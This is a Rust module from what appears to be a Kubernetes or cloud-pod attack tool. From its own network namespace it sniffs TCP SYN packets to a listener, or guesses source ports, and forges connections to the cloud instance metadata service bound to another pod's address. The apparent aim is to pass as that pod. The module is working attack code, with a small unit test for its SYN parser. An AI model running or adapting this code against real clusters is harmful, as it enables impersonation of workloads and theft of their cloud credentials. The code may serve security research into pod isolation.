//! Connections with another pod's ends, from a network namespace of the attacker's own.

use std::{
    collections::VecDeque,
    io,
    net::{IpAddr, Ipv4Addr, SocketAddr},
    ops::RangeInclusive,
    os::fd::OwnedFd,
    thread,
    time::Duration,
};

use rustix::net::{AddressFamily, RecvFlags, SocketFlags, SocketType, eth, recv, socket_with};
use socket2::Socket;

use super::{Course, begin_connect, imds, namespaces::pretend_to_be, socket};
use crate::pod_client::attack::sys::enter_new_network;

/// How many forged connections are open at a time: more than a new connection lives until the agent has accepted it.
const OPEN: usize = 64;
/// Between two rounds of guesses.
const PAUSE: Duration = Duration::from_millis(2);
/// Flags of a TCP header: SYN, and SYN, ACK and RST.
const SYN: u8 = 0x02;
const SYN_ACK_RST: u8 = 0x16;

/// Waits for SYNs to `listener` on the interfaces of the caller's namespace, and forges a connection for each.
pub(super) fn by_sight(course: &Course, listener: SocketAddr, threads: u32) -> io::Result<()> {
    course.in_full_swing();
    course.on_threads(threads, || {
        if let Err(error) = see_and_forge(course, listener) {
            course.count(&format!("a forger ended: {error}"), 1);
        }
    });
    Ok(())
}

fn see_and_forge(course: &Course, listener: SocketAddr) -> io::Result<()> {
    // It stays in the namespace that it is made in.
    let sight = sight()?;
    let IpAddr::V4(node) = listener.ip() else { return Err(io::ErrorKind::InvalidInput.into()) };
    enter_new_network(node)?;
    pretend_to_be(listener)?;
    let mut open = VecDeque::new();
    let mut packet = [0; 128];
    while course.goes_on() {
        // Spinning: who sleeps comes too late.
        let length = match recv(&sight, &mut packet, RecvFlags::DONTWAIT) {
            Ok((length, _)) => length,
            // Nothing yet, or an interface has gone.
            Err(_) => continue,
        };
        let Some(source) = source_of_syn(&packet[..length], listener) else { continue };
        course.count("seen", 1);
        keep(course, &mut open, OPEN, forge(source));
    }
    Ok(())
}

/// A socket that sees the packets on all interfaces.
pub(super) fn sight() -> io::Result<OwnedFd> {
    let flags = SocketFlags::CLOEXEC | SocketFlags::NONBLOCK;
    Ok(socket_with(AddressFamily::PACKET, SocketType::DGRAM, flags, Some(eth::IP))?)
}

/// Opens connections from `source` and each of `ports`, again and again, `window` at a time.
pub(super) fn by_guess(
    course: &Course,
    source: Ipv4Addr,
    ports: RangeInclusive<u16>,
    listener: SocketAddr,
    window: u32,
) -> io::Result<()> {
    enter_new_network(source)?;
    pretend_to_be(listener)?;
    let mut open = VecDeque::new();
    let mut first = true;
    while course.goes_on() {
        for port in ports.clone() {
            if window as usize >= ports.len() && open.len() >= ports.len() {
                // All are open: there is nothing left to guess.
                break;
            }
            keep(course, &mut open, window as usize, forge((source, port).into()));
        }
        if std::mem::take(&mut first) {
            course.in_full_swing();
        }
        thread::sleep(PAUSE);
    }
    Ok(())
}

/// A connection to the metadata service that comes from `source`.
fn forge(source: SocketAddr) -> io::Result<Socket> {
    let socket = socket()?;
    socket.set_reuse_address(true)?;
    socket.bind(&source.into())?;
    begin_connect(&socket, imds())?;
    Ok(socket)
}

fn keep(course: &Course, open: &mut VecDeque<Socket>, most: usize, forged: io::Result<Socket>) {
    match forged {
        Ok(socket) => {
            course.count("forged", 1);
            open.push_back(socket);
        }
        Err(error) => course.count(&format!("not forged: {error}"), 1),
    }
    while open.len() > most {
        open.pop_front();
    }
}

/// Where an IPv4 packet comes from, if it is a SYN to `listener`.
pub(super) fn source_of_syn(packet: &[u8], listener: SocketAddr) -> Option<SocketAddr> {
    let header = usize::from(packet.first()? & 0xf) * 4;
    let address = |at: usize| Some(Ipv4Addr::from(*packet.get(at..)?.first_chunk::<4>()?));
    let port =
        |at: usize| Some(u16::from_be_bytes(*packet.get(header + at..)?.first_chunk::<2>()?));
    let to = SocketAddr::from((address(16)?, port(2)?));
    let is_syn = packet.get(header + 13)? & SYN_ACK_RST == SYN;
    let is_tcp = i32::from(*packet.get(9)?) == libc::IPPROTO_TCP;
    (is_tcp && is_syn && to == listener).then_some((address(12)?, port(0)?).into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_syns_to_the_listener_have_a_source() {
        let listener = SocketAddr::from(([10, 77, 0, 1], 3100));
        let mut packet = vec![0; 40];
        (packet[0], packet[9]) = (0x45, libc::IPPROTO_TCP as u8);
        packet[12..20].copy_from_slice(&[10, 77, 1, 2, 10, 77, 0, 1]);
        packet[20..22].copy_from_slice(&40_000_u16.to_be_bytes());
        packet[22..24].copy_from_slice(&3100_u16.to_be_bytes());
        packet[33] = SYN;
        let source = SocketAddr::from(([10, 77, 1, 2], 40_000));
        assert_eq!(source_of_syn(&packet, listener), Some(source));
        assert_eq!(source_of_syn(&packet, ([10, 77, 0, 1], 80).into()), None);
        assert_eq!(source_of_syn(&packet[..30], listener), None);
        packet[33] = SYN_ACK_RST;
        assert_eq!(source_of_syn(&packet, listener), None);
    }
}
